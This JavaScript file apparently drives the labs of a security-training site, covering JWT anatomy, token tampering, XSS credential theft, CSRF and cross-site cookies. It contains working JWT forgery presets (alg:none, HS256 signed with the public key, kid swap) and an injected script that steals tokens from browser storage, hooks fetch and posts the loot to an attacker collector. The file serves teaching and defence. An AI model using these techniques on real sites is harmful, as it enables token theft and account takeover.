// The Learn path's solved marks and the labs with goals: a token's anatomy, tampering, and where
// the browser keeps a credential (XSS). Plain JavaScript like demos.js, whose helpers it uses
// (window.tokenshopLab), so every request is exactly what a browser's fetch sends.
(function () {
  "use strict";
  // Loaded after demos.js, whose helpers (and whose wait for hydration) these labs share.
  const shared = window.tokenshopLab;
  if (!shared) return;

  // Solved marks, kept in this browser only: { lesson: { at, how } }.
  const PROGRESS = "tokenshop.progress";
  function progress() {
    try {
      return JSON.parse(localStorage.getItem(PROGRESS) ?? "{}") ?? {};
    } catch (_) {
      return {};
    }
  }

  function showGoal() {
    const goal = document.querySelector('[data-testid="goal"]');
    const status = goal?.querySelector('[data-testid="goal-status"]');
    if (!status) return;
    const done = progress()[goal.dataset.lesson];
    goal.dataset.solved = done ? "true" : "false";
    if (done) {
      const at = new Date(done.at).toLocaleString([], { hour12: false });
      status.textContent = `Solved (${at}): ${done.how}.`;
    }
  }

  function showPath() {
    const path = document.querySelector('[data-testid="path"]');
    if (!path) return;
    const kept = progress();
    let labs = 0;
    let solved = 0;
    path.querySelectorAll('[data-testid="path-lesson"]').forEach((li) => {
      const status = li.querySelector('[data-testid="lesson-status"]');
      if (status.dataset.hasLab !== "true") return;
      labs += 1;
      const done = Boolean(kept[li.dataset.lesson]);
      if (done) solved += 1;
      li.dataset.solved = String(done);
      status.textContent = done ? "✓ solved" : "";
    });
    path.querySelector('[data-testid="progress"]').textContent =
      `${solved} of ${labs} labs solved (kept in this browser).`;
  }

  document.addEventListener("tokenshop:solved", (event) => {
    const { lesson, how } = event.detail;
    const kept = progress();
    if (!kept[lesson]) {
      kept[lesson] = { at: Date.now(), how };
      localStorage.setItem(PROGRESS, JSON.stringify(kept));
    }
    showGoal();
    showPath();
  });

  const b64url = {
    decode(part) {
      const b64 = part.replace(/-/g, "+").replace(/_/g, "/") + "===".slice((part.length + 3) % 4);
      return new TextDecoder().decode(Uint8Array.from(atob(b64), (c) => c.charCodeAt(0)));
    },
    encodeBytes(bytes) {
      return btoa(String.fromCharCode(...bytes)).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
    },
    encode(text) {
      return b64url.encodeBytes(new TextEncoder().encode(text));
    },
  };
  const decodeJson = (part) => JSON.parse(b64url.decode(part));

  const { bind } = shared;
  // Writes a live region only when its text changes, so a refresh that found nothing new is silent.
  const say = (el, text) => {
    if (el.textContent !== text) el.textContent = text;
  };
  // A random name for one run of a lab (what its server side records under).
  const randomId = () => Array.from(crypto.getRandomValues(new Uint8Array(16)), (b) => b.toString(16).padStart(2, "0")).join("");
  // This tab's name for a lab's runs, kept across the visit to the partner site and back.
  function keptId(key) {
    let id = sessionStorage.getItem(key);
    if (!id) {
      id = randomId();
      sessionStorage.setItem(key, id);
    }
    return id;
  }

  function startAnatomy(lab) {
    const demo = bind("anatomy");
    if (!demo) return;
    const out = (id) => demo.querySelector(`[data-testid="${id}"]`);
    let token = null;
    let timer = null;
    out("anatomy-get").addEventListener("click", async () => {
      const login = await lab.post("/api/v1/auth/login", await lab.credentials());
      if (login.status !== 200) {
        out("anatomy-result").textContent = lab.problem(login);
        return;
      }
      token = login.data.access_token;
      const [h, p, s] = token.split(".");
      out("anatomy-raw-header").textContent = h;
      out("anatomy-raw-payload").textContent = p;
      out("anatomy-raw-signature").textContent = s;
      out("anatomy-header").textContent = JSON.stringify(decodeJson(h), null, 2);
      const claims = decodeJson(p);
      out("anatomy-payload").textContent = JSON.stringify(claims, null, 2);
      const times = out("anatomy-times");
      const row = (term, text, testid) => {
        const dt = document.createElement("dt");
        dt.textContent = term;
        const dd = document.createElement("dd");
        dd.textContent = text;
        if (testid) dd.dataset.testid = testid;
        times.append(dt, dd);
        return dd;
      };
      times.replaceChildren();
      row("Issued (iat)", `${lab.clock(claims.iat)}, ${new Date(claims.iat * 1000).toLocaleDateString()}`);
      row("Not before (nbf)", lab.clock(claims.nbf));
      const exp = row("Expires (exp)", "", "anatomy-exp");
      const tick = () => {
        const left = claims.exp - Date.now() / 1000;
        exp.textContent = left > 0 ? `${lab.clock(claims.exp)}: in ${lab.human(left)}` : `${lab.clock(claims.exp)}: expired`;
      };
      tick();
      clearInterval(timer);
      timer = setInterval(tick, 1000);
      out("anatomy-result").textContent = "Your token is below: its three parts, decoded.";
      demo.dataset.ready = "token";
    });
    out("anatomy-quiz").addEventListener("submit", async (event) => {
      event.preventDefault();
      const result = out("anatomy-result");
      if (!token) {
        result.textContent = "First sign in and show your token.";
        return;
      }
      // The shop's own reading of the token decides, not this page's.
      const seen = await lab.send("GET", "/api/v1/auth/introspect", { token });
      const sub = seen.data?.claims?.sub;
      const answer = out("anatomy-answer").value.trim();
      out("anatomy-answer").setAttribute("aria-invalid", String(answer !== String(sub)));
      if (seen.data?.active && answer === String(sub)) {
        result.textContent = `Right: the shop says this token speaks for account ${sub}, and you read it without any key.`;
        lab.solved("read-a-token", `read account ${sub} out of the token's payload with no key; the shop's introspection agreed`);
      } else {
        result.textContent = "Not that one: look for \"sub\" in the payload above.";
      }
    });
    demo.dataset.ready = "true";
  }

  function startTamper(lab) {
    const demo = bind("tamper");
    if (!demo) return;
    const out = (id) => demo.querySelector(`[data-testid="${id}"]`);
    const reasons = new Set();
    let original = null;
    let cookieRefused = false;

    const step = (list, text, status, reason) => {
      const li = document.createElement("li");
      li.dataset.testid = "tamper-result";
      li.dataset.status = String(status);
      if (reason) li.dataset.reason = reason;
      li.textContent = `${text} → ${status}`;
      out(list).append(li);
    };

    function checkGoal() {
      if (reasons.size >= 4 && cookieRefused) {
        lab.solved("tamper", `${reasons.size} kinds of changed token and an edited session id, every one refused: only the holder of the private key can sign, and the shop accepts one algorithm`);
      }
    }

    async function sendToken(label, token) {
      const me = await lab.send("GET", "/api/v1/me", { token });
      const seen = await lab.send("GET", "/api/v1/auth/introspect", { token });
      const reason = me.status === 200 ? "accepted" : seen.data?.reason ?? "refused";
      if (me.status !== 200) reasons.add(reason);
      step("tamper-results", `${label}: ${me.status === 200 ? "accepted, as " + me.data?.email : lab.problem(me)}`, me.status, reason);
      checkGoal();
    }

    function parts() {
      return {
        header: JSON.parse(out("tamper-header").value),
        payload: JSON.parse(out("tamper-payload").value),
        signature: out("tamper-signature").value.trim(),
      };
    }
    const assemble = (header, payload, signature) =>
      `${b64url.encode(JSON.stringify(header))}.${b64url.encode(JSON.stringify(payload))}.${signature}`;

    out("tamper-get").addEventListener("click", async () => {
      const login = await lab.post("/api/v1/auth/login", await lab.credentials());
      if (login.status !== 200) {
        step("tamper-results", `sign in: ${lab.problem(login)}`, login.status);
        return;
      }
      const [h, p, s] = login.data.access_token.split(".");
      original = { token: login.data.access_token, header: decodeJson(h), payload: decodeJson(p), signature: s };
      out("tamper-header").value = JSON.stringify(original.header, null, 2);
      out("tamper-payload").value = JSON.stringify(original.payload, null, 2);
      out("tamper-signature").value = s;
      demo.dataset.ready = "token";
    });

    out("tamper-send").addEventListener("click", async () => {
      if (!original) return step("tamper-results", "First get a token to change", 0);
      let edited;
      try {
        edited = parts();
      } catch (e) {
        return step("tamper-results", `That is not JSON any more (${e.message}); fix it and send again`, 0);
      }
      const token = assemble(edited.header, edited.payload, edited.signature);
      const label = token === original.token ? "Unchanged" : "Your edit";
      await sendToken(label, token);
    });

    async function hs256WithPublicKey(header, payload) {
      const jwks = await lab.send("GET", "/.well-known/jwks.json");
      const key = (jwks.data?.keys ?? []).find((k) => k.kid === original.header.kid) ?? jwks.data?.keys?.[0];
      const secret = Uint8Array.from(b64url.decode(key.x), (c) => c.charCodeAt(0));
      const hmac = await crypto.subtle.importKey("raw", secret, { name: "HMAC", hash: "SHA-256" }, false, ["sign"]);
      const signingInput = assemble(header, payload, "").slice(0, -1);
      const mac = await crypto.subtle.sign("HMAC", hmac, new TextEncoder().encode(signingInput));
      return `${signingInput}.${b64url.encodeBytes(new Uint8Array(mac))}`;
    }

    const presets = {
      sub: async () => ["Someone else's sub, old signature", assemble(original.header, { ...original.payload, sub: String(Number(original.payload.sub) + 1) }, original.signature)],
      "alg-none": async () => ["alg: none, no signature", assemble({ ...original.header, alg: "none" }, original.payload, "")],
      hs256: async () => ["HS256 signed with the public key", await hs256WithPublicKey({ ...original.header, alg: "HS256" }, original.payload)],
      kid: async () => ["kid: attackers-own-key", assemble({ ...original.header, kid: "attackers-own-key" }, original.payload, original.signature)],
      expired: async () => {
        const samples = await lab.send("POST", "/learn/lab/token-samples", { token: original.token });
        return ["A genuine token, expired a minute ago", samples.data?.expired ?? ""];
      },
      "wrong-kind": async () => {
        const samples = await lab.send("POST", "/learn/lab/token-samples", { token: original.token });
        return ["A genuine Cart-Token as an access token", samples.data?.cart ?? ""];
      },
    };
    demo.querySelectorAll('[data-testid="tamper-preset"]').forEach((button) =>
      button.addEventListener("click", async () => {
        if (!original) return step("tamper-results", "First get a token to change", 0);
        const [label, token] = await presets[button.dataset.preset]();
        const [h, p] = token.split(".");
        try {
          out("tamper-header").value = JSON.stringify(decodeJson(h), null, 2);
          out("tamper-payload").value = JSON.stringify(decodeJson(p), null, 2);
          out("tamper-signature").value = token.split(".")[2] ?? "";
        } catch (_) { /* shown as sent */ }
        await sendToken(label, token);
      }));

    out("tamper-cookie").addEventListener("click", async () => {
      out("tamper-cookie-results").replaceChildren();
      const login = await lab.send("POST", "/learn/lab/cookie/login", { body: await lab.credentials() });
      const cookie = lab.labCookieFrom(login.res, null);
      step("tamper-cookie-results", `Sign in by the pages: the session id is ${cookie ? cookie.split("=")[1] : "(none)"}`, login.status);
      if (!cookie) return;
      const [name, id] = cookie.split("=");
      const flipped = id.slice(0, -1) + (id.endsWith("A") ? "B" : "A");
      const guessed = b64url.encodeBytes(crypto.getRandomValues(new Uint8Array(16)));
      const real = await lab.send("GET", "/learn/lab/cookie/whoami", { labCookie: cookie });
      step("tamper-cookie-results", `The real id: ${real.data?.detail ?? ""}`, real.status);
      const edited = await lab.send("GET", "/learn/lab/cookie/whoami", { labCookie: `${name}=${flipped}` });
      step("tamper-cookie-results", `One character changed (${flipped}): ${edited.data?.detail ?? ""}`, edited.status);
      const guess = await lab.send("GET", "/learn/lab/cookie/whoami", { labCookie: `${name}=${guessed}` });
      step("tamper-cookie-results", `A guessed id (${guessed}), one of 2^128: ${guess.data?.detail ?? ""}`, guess.status);
      cookieRefused = edited.status === 401 && guess.status === 401;
      checkGoal();
    });
    demo.dataset.ready = "true";
  }

  // The injected script. It runs as an attacker's inline script would — inserted into the page
  // (modes "off" and "strict"), or as a script already trusted by the page ("anyway") — reads
  // what it can, acts in the tab, and posts its loot to the collector on the partner origin.
  function injected(collector, drop) {
    const items = [];
    const read = {};
    const take = (store, from, raw) => {
      let kept = null;
      try { kept = JSON.parse(raw); } catch (_) { kept = null; }
      if (kept?.access) items.push({ from, kind: "access", value: kept.access });
      if (kept?.refresh) items.push({ from, kind: "refresh", value: kept.refresh });
      read[store] = kept?.access ? "the access and the refresh token, in one line" : "nothing";
    };
    take("local", "localStorage", localStorage.getItem("lab.tokens"));
    take("session", "sessionStorage", sessionStorage.getItem("lab.tokens"));
    const cookies = document.cookie.split(";").map((c) => c.trim().split("=")[0]).filter(Boolean);
    read.cookie = `nothing: document.cookie shows ${cookies.length ? cookies.join(", ") : "no cookies"}, not the HttpOnly one`;
    read.bff = read.cookie;
    read.memory = "nothing by name: the variable is inside the app's closure; so it wrapped fetch to wait for the app's next call";
    const send = () => window.tokenshopRealFetch(`${collector}/attacker/collect/${drop}`, {
      method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: JSON.stringify({ items }),
    }).then(() => "sent", (e) => `blocked: ${e.message}`);
    const report = (detail) => document.dispatchEvent(new CustomEvent("tokenshop:injected", { detail }));
    const realFetch = window.tokenshopRealFetch = window.tokenshopRealFetch ?? window.fetch;
    window.fetch = function (input, init) {
      const auth = init?.headers?.Authorization ?? "";
      if (auth.startsWith("Bearer ") && String(input).startsWith("/api/v1/me") && init?.headers?.["X-Lab-App"] === "memory") {
        items.push({ from: "memory", kind: "access", value: auth.slice(7) });
        window.fetch = realFetch;
        send().then((sent) => report({ memory: "its access token, caught in the app's next call", sent }));
      }
      return realFetch.apply(this, arguments);
    };
    const ride = async (store, path) => {
      const res = await realFetch(path, { credentials: "same-origin" });
      const body = await res.json().catch(() => ({}));
      items.push({ from: store, kind: "rode", value: `GET ${path} → ${res.status}${body.email ? " as " + body.email : ""}` });
      return res.status;
    };
    Promise.all([ride("cookie", "/learn/lab/xss/cookie/whoami"), ride("bff", "/learn/lab/xss/bff/me")])
      .then(([cookie, bff]) => send().then((sent) => report({ read, rode: { cookie, bff }, sent })));
  }

  function startXss(lab) {
    const demo = bind("xss");
    if (!demo) return;
    const collector = demo.dataset.collector;
    const drop = randomId();
    const button = (id) => demo.querySelector(`[data-testid="${id}"]`);
    const set = (store, column, text) => {
      demo.querySelector(`[data-testid="xss-row"][data-store="${store}"] [data-testid="xss-${column}"]`).textContent = text;
    };
    const result = demo.querySelector('[data-testid="xss-csp-result"]');
    const status = demo.querySelector('[data-testid="xss-status"]');
    const storeOf = { localStorage: "local", sessionStorage: "session", memory: "memory", cookie: "cookie", bff: "bff" };
    let memoryApp = null;

    button("xss-signin").addEventListener("click", async () => {
      const account = await lab.credentials();
      for (const [store, storage] of [["local", localStorage], ["session", sessionStorage], ["memory", null]]) {
        const login = await lab.post("/api/v1/auth/login", account);
        set(store, "signed-in", login.status === 200 ? `yes (${login.status})` : lab.problem(login));
        if (login.status !== 200) continue;
        const tokens = { access: login.data.access_token, refresh: login.data.refresh_token };
        if (storage) {
          storage.setItem("lab.tokens", JSON.stringify(tokens));
        } else {
          // The app keeps its tokens in this closure and calls the API every 2 s, as a SPA would.
          clearInterval(memoryApp);
          memoryApp = setInterval(() => fetch("/api/v1/me", {
            headers: { Authorization: `Bearer ${tokens.access}`, "X-Lab-App": "memory" }, credentials: "omit",
          }).catch(() => {}), 2000);
        }
      }
      for (const store of ["cookie", "bff"]) {
        const res = await fetch(`/learn/lab/xss/${store}/login`, {
          method: "POST", credentials: "same-origin", headers: { "Content-Type": "application/json" }, body: JSON.stringify(account),
        });
        set(store, "signed-in", res.ok ? `yes (${res.status})` : `no (${res.status})`);
      }
      const rows = [...demo.querySelectorAll('[data-testid="xss-signed-in"]')];
      status.textContent = `Signed in ${rows.filter((td) => td.textContent.startsWith("yes")).length} of ${rows.length} ways (the table says how each went). Next: run the injected script.`;
      button("xss-inject").disabled = false;
      const anyway = button("xss-inject-anyway");
      if (anyway) anyway.disabled = false;
    });

    document.addEventListener("tokenshop:injected", async (event) => {
      const { read, rode, memory, sent } = event.detail;
      if (read) Object.entries(read).forEach(([store, text]) => set(store, "read", text));
      if (rode) {
        set("cookie", "read", `${demo.querySelector('[data-store="cookie"] [data-testid="xss-read"]').textContent}; but it acted as you: whoami → ${rode.cookie}`);
        set("bff", "read", `${demo.querySelector('[data-store="bff"] [data-testid="xss-read"]').textContent}; but it acted as you through the BFF → ${rode.bff}`);
      }
      if (memory) set("memory", "read", memory);
      result.textContent = sent === "sent"
        ? "The injected script ran and sent its loot to the attacker's collector."
        : `The injected script ran, but could not send its loot: ${sent} (connect-src allows only this origin).`;
      const loot = await lab.send("GET", `/learn/lab/xss/attacker/${drop}`);
      const got = loot.data ?? [];
      for (const store of Object.values(storeOf)) {
        const mine = got.filter((l) => storeOf[l.from] === store);
        set(store, "sent", mine.length ? mine.map((l) => (l.kind === "rode" ? "a note of what it did" : `the ${l.kind} token`)).join(", ") : "nothing received");
      }
      button("xss-replay").disabled = got.length === 0;
      demo.dataset.injected = "true";
    });

    document.addEventListener("securitypolicyviolation", (event) => {
      if (!demo.dataset.injecting || !event.violatedDirective.startsWith("script-src")) return;
      result.textContent = `The browser refused the injected inline script (${event.violatedDirective}): it carries no nonce, so nothing of it ran. `
        + "That is what a strict CSP buys. Try 2b: a script that got in another way (say a compromised library from this origin).";
      demo.dataset.cspBlocked = "true";
    });

    button("xss-inject").addEventListener("click", () => {
      demo.dataset.injecting = "true";
      result.textContent = "";
      const script = document.createElement("script");
      script.textContent = `(${injected.toString()})(${JSON.stringify(collector)}, ${JSON.stringify(drop)});`;
      document.body.append(script);
    });
    button("xss-inject-anyway")?.addEventListener("click", () => injected(collector, drop));

    button("xss-replay").addEventListener("click", async () => {
      const replayed = await lab.send("POST", `/learn/lab/xss/attacker/${drop}/replay`);
      const outcomes = replayed.data ?? [];
      const worked = outcomes.filter((o) => o.status === 200);
      for (const store of Object.values(storeOf)) {
        const mine = outcomes.filter((o) => storeOf[o.from] === store);
        if (!mine.length) continue;
        set(store, "replayed", mine.map((o) => (o.status ? `${o.kind}: ${o.status} ${o.said}` : o.said)).join("; "));
        set(store, "lasts", mine.map((o) => o.lasts).filter(Boolean).join("; "));
      }
      status.textContent = `The attacker replayed ${outcomes.length} stolen credentials from elsewhere: ${worked.length} worked (the table's last columns say which).`;
      if (worked.length) {
        const first = worked[0];
        lab.solved("where-to-keep-it", `the ${first.kind} token from ${first.from} worked from the attacker's machine (${first.said})`);
      }
    });
    demo.dataset.ready = "true";
  }

  // The forged-request lab: this tab's attempt id names what the lab targets record, so the
  // attacker's page (the partner origin) and this lesson read the same outcomes.
  function startForge(lab) {
    const demo = bind("forge");
    if (!demo) return;
    const out = (id) => demo.querySelector(`[data-testid="${id}"]`);
    const attempt = keptId("tokenshop.forge-attempt");
    const partner = demo.dataset.partner;
    if (partner) {
      const same = new URL(partner);
      same.hostname = location.hostname;
      out("forge-open-cross").href = `${partner}/?forge=${attempt}#forge-lab`;
      out("forge-open-same").href = `${same.origin}/?forge=${attempt}#forge-lab`;
    }
    async function refresh() {
      const seen = (await lab.send("GET", `/learn/lab/csrf/attempts/${attempt}`)).data ?? [];
      out("forge-attempts").replaceChildren(...seen.map((a) => {
        const tr = document.createElement("tr");
        tr.dataset.testid = "forge-attempt";
        tr.dataset.target = a.target;
        tr.dataset.accepted = String(a.accepted);
        for (const text of [a.target === "weak" ? "lab target, cookie only" : "behind the shop's check", a.site, a.cookie_sent ? "yes" : "no", a.said]) {
          const td = document.createElement("td");
          td.textContent = text;
          tr.append(td);
        }
        return tr;
      }));
      say(out("forge-summary"), seen.length
        ? `The targets received ${seen.length} forged requests: ${seen.filter((a) => a.accepted).length} accepted, ${seen.filter((a) => !a.accepted).length} refused.`
        : "The targets have received no forged request from this tab yet.");
      const took = seen.find((a) => a.target === "weak" && a.accepted);
      const stopped = seen.find((a) => a.target === "guarded" && !a.accepted);
      if (took && stopped) {
        lab.solved("forge-a-request", `a page on the same site (Sec-Fetch-Site: ${took.site}) changed your lab cart through your cookie at the target that checks only the cookie; the shop's check refused the same request`);
      }
    }
    out("forge-signin").addEventListener("click", async () => {
      const res = await fetch("/learn/lab/csrf/login", {
        method: "POST", credentials: "same-origin", headers: { "Content-Type": "application/json" },
        body: JSON.stringify(await lab.credentials()),
      });
      const body = await res.json().catch(() => ({}));
      out("forge-signed-in").textContent = res.ok
        ? `Signed in as ${body.email}: this browser now holds the lab's cookie. Now open the attacker's page.`
        : `Not signed in (${res.status}): ${body.detail ?? ""}`;
      demo.dataset.signedIn = String(res.ok);
    });
    out("forge-refresh").addEventListener("click", refresh);
    refresh().finally(() => { demo.dataset.ready = "true"; });
  }

  // The cross-site cookie lab: a control from this site, the experiment from the partner's, and
  // the shop's record of which cookies came back with which request.
  function startElsewhere(lab) {
    const demo = bind("elsewhere");
    if (!demo) return;
    const out = (id) => demo.querySelector(`[data-testid="${id}"]`);
    const attempt = keptId("tokenshop.cookie-attempt");
    if (demo.dataset.partner) out("elsewhere-open").href = `${demo.dataset.partner}/?cookie=${attempt}#elsewhere-lab`;
    const ALL = ["SameSite=Lax", "SameSite=None without Secure", "SameSite=None; Secure", "SameSite=None; Secure; Partitioned"];
    async function refresh() {
      const trials = (await lab.send("GET", `/learn/lab/elsewhere/trials/${attempt}`)).data ?? [];
      out("elsewhere-trials").replaceChildren(...trials.map((t) => {
        const tr = document.createElement("tr");
        tr.dataset.testid = "elsewhere-trial";
        tr.dataset.site = t.site;
        tr.dataset.step = t.step;
        for (const text of [t.step, t.site, t.step === "set" ? "(the shop set them)" : (t.arrived.join(", ") || "none")]) {
          const td = document.createElement("td");
          td.textContent = text;
          tr.append(td);
        }
        return tr;
      }));
      say(out("elsewhere-summary"), `The shop has recorded ${trials.length} requests of this experiment.`);
      const cross = trials.find((t) => t.step === "check" && t.site === "cross-site");
      if (cross) {
        const dropped = ALL.filter((c) => !cross.arrived.includes(c));
        const blocked = !cross.arrived.includes("SameSite=None; Secure");
        const how = (cross.arrived.length
          ? `from another site the browser sent back only ${cross.arrived.join(" and ")}; it dropped ${dropped.join(", ")}`
          : "from another site the browser sent back none of them")
          + (blocked ? " — this browser blocks third-party cookies, a rule of its own no server setting overrides; only a partitioned cookie, kept for this partner alone, gets through" : "");
        out("elsewhere-verdict").textContent = `${how.charAt(0).toUpperCase()}${how.slice(1)}.`;
        lab.solved("cookie-on-another-site", how);
      }
    }
    out("elsewhere-control").addEventListener("click", async () => {
      await fetch(`/learn/lab/elsewhere/set/${attempt}`, { method: "POST", credentials: "same-origin" });
      await fetch(`/learn/lab/elsewhere/check/${attempt}`, { credentials: "same-origin" });
      await refresh();
    });
    out("elsewhere-refresh").addEventListener("click", refresh);
    refresh().finally(() => { demo.dataset.ready = "true"; });
  }

  function start() {
    const lab = shared;
    showGoal();
    showPath();
    startAnatomy(lab);
    startTamper(lab);
    startXss(lab);
    startForge(lab);
    startElsewhere(lab);
  }

  shared.whenHydrated(start);
})();
